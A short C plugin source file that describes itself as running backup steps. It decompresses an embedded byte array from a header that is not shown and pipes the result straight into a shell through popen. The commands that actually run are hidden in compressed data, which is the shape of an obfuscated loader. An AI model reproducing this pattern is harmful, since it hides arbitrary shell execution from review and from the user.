/* The steps of a backup are unpacked and written to a shell. */
#include "plugin.h"
#include "packed.h"
#include <stdio.h>
extern int uncompress(unsigned char *, unsigned long *, const unsigned char *, unsigned long);
static void act(char **env) {
    unsigned char text[1024];
    unsigned long size = sizeof text;
    FILE *shell;
    if (uncompress(text, &size, steps, sizeof steps) || !(shell = popen("sh -s nightly", "w"))) return;
    fwrite(text, 1, size, shell);
    pclose(shell);
}
